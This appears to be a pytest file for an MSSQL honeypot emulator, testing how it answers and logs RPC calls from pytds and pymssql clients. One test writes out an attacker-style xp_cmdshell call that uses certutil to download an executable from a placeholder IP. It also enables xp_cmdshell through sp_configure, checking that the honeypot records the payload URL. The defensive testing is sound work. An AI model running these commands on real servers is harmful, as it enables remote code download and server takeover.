"""End to end: RPC requests from pytds (sp_executesql, sp_prepare family) and pymssql
(callproc, which FreeTDS sends as an RPC by name)."""

from __future__ import annotations

import pymssql
import pytds
from pytds import tds_base, tds_types

from tests.conftest import only


def _hp(honeypot_factory, **svc):
    return honeypot_factory(only({"mssql": {"tcp_ports": [1433], **svc}}))


def _connect(hp):
    return pytds.connect("127.0.0.1", port=hp.port(1433), user="sa", password="pw",
                         login_timeout=5, timeout=5, autocommit=True)


def test_pytds_parameterised_queries_run_as_sp_executesql(honeypot_factory):
    hp = _hp(honeypot_factory)
    with _connect(hp) as conn:
        cur = conn.cursor()
        cur.execute("SELECT %s AS n, %s AS s", (41, "it's ü ☃"))
        assert cur.fetchall() == [(41, "it's ü ☃")]
        cur.execute("CREATE TABLE creds (id INT, who NVARCHAR(40), secret VARBINARY(16))")
        cur.execute("INSERT INTO creds VALUES (%s, %s, %s)",
                    (1, "root", pytds.Binary(b"\x00\x01'")))
        assert cur.rowcount == 1
        cur.executemany("INSERT INTO creds VALUES (%s, %s, %s)",
                        [(2, "admin", "x\x00y"), (3, "o'brien", None)])
        cur.execute("SELECT who FROM creds WHERE id >= %(low)s ORDER BY id", {"low": 2})
        assert cur.fetchall() == [("admin",), ("o'brien",)]
        cur.execute("SELECT secret FROM creds WHERE id = %s", (2,))
        assert cur.fetchall() == [("x\x00y",)]
        cur.execute("SELECT secret FROM creds WHERE id = %s", (1,))
        assert cur.fetchall() == [(b"\x00\x01'",)]
        # a typed NULL passed as a value, not inlined by the client
        cur.callproc(tds_base.SP_EXECUTESQL,
                     ("SELECT COUNT(*) FROM creds WHERE @x IS NULL", "@x int",
                      tds_base.Param(type=tds_types.IntType(), value=None)))
        assert cur.fetchall() == [(3,)]
        assert cur.get_proc_return_status() == 0
        try:
            cur.execute("SELECT who FROM nosuch WHERE id = %s", (1,))
            raise AssertionError("no error")
        except pytds.ProgrammingError as exc:
            assert "Invalid object name 'nosuch'" in str(exc)
        cur.execute("SELECT %s", (5,))  # the session goes on after an error
        assert cur.fetchone() == (5,)
    assert hp.stop() == 0
    cmds = [c for (c,) in hp.rows("SELECT mssql_command_cmd FROM mssql_commands")]
    assert ("exec sp_executesql N'INSERT INTO creds VALUES (@P1, @P2, @P3)', "
            "N'@P1 INT,@P2 NVARCHAR(MAX),@P3 VARBINARY(8000)', @P1=1, @P2=N'root', "
            "@P3=0x000127") in cmds
    assert sum("o''brien" in c for c in cmds) == 1
    lines = [c["cmd"] for obj in hp.json_lines() if "mssql" in obj
             for c in obj["mssql"].get("commands", [])]
    assert any(c.startswith("exec sp_executesql N'SELECT @P1 AS n") for c in lines)


def test_pytds_prepare_execute_unprepare(honeypot_factory):
    hp = _hp(honeypot_factory)
    with _connect(hp) as conn:
        cur = conn.cursor()
        cur.execute("CREATE TABLE t (a INT)")
        handle = cur.callproc("sp_prepare", (pytds.output(param_type="int"), "@a int",
                                             "INSERT INTO t VALUES (@a)"))
        assert cur.get_proc_outputs()[0] == 1 and handle[0] == 1
        cur.callproc("sp_execute", (1, 7))
        cur.callproc("sp_execute", (1, 8))
        cur.callproc("sp_prepexec", (pytds.output(param_type="int"), "@a int",
                                     "SELECT SUM(a) + @a FROM t", 100))
        assert cur.fetchall() == [(115,)]
        assert cur.get_proc_outputs()[0] == 2
        cur.callproc("sp_unprepare", (1,))
        try:
            cur.callproc("sp_execute", (1, 9))
            raise AssertionError("no error")
        except pytds.OperationalError as exc:
            assert "Could not find prepared statement with handle 1" in str(exc)
    assert hp.stop() == 0
    cmds = [c for (c,) in hp.rows("SELECT mssql_command_cmd FROM mssql_commands")]
    assert "exec sp_execute 1, 7" in cmds and "exec sp_unprepare 1" in cmds


def test_pymssql_callproc_reaches_xp_cmdshell_by_rpc(honeypot_factory):
    hp = _hp(honeypot_factory)
    conn = pymssql.connect(server="127.0.0.1", port=str(hp.port(1433)), user="sa",
                           password="pw", login_timeout=5, timeout=5)
    cur = conn.cursor()
    try:
        cur.callproc("xp_cmdshell", ("certutil -urlcache -f http://203.0.113.5/p.exe p.exe",))
        raise AssertionError("no error")
    except pymssql.Error as exc:
        assert "15281" in str(exc) or "blocked access" in str(exc)
    cur.callproc("sp_databases")
    assert "master" in [r[0] for r in cur.fetchall()]
    cur.callproc("sp_server_info", (2,))
    assert cur.fetchall() == [(2, "DBMS_VER", "Microsoft SQL Server 2008 R2 - 10.50.6000.34")]
    cur.execute("exec sp_configure 'show advanced options', 1; RECONFIGURE; "
                "exec sp_configure 'xp_cmdshell', 1; RECONFIGURE")
    cur.callproc("xp_cmdshell", ("whoami",))
    assert cur.fetchall() == [("nt service\\mssqlserver",), (None,)]
    try:
        cur.callproc("sp_nosuch_thing")
        raise AssertionError("no error")
    except pymssql.Error as exc:
        assert "Could not find stored procedure 'sp_nosuch_thing'" in str(exc)
    conn.close()
    assert hp.stop() == 0
    assert ("http://203.0.113.5/p.exe",) in hp.rows("SELECT offer_url FROM offers")
    cmds = [c for (c,) in hp.rows("SELECT mssql_command_cmd FROM mssql_commands")]
    assert any(c.startswith("exec xp_cmdshell") and "203.0.113.5" in c for c in cmds)
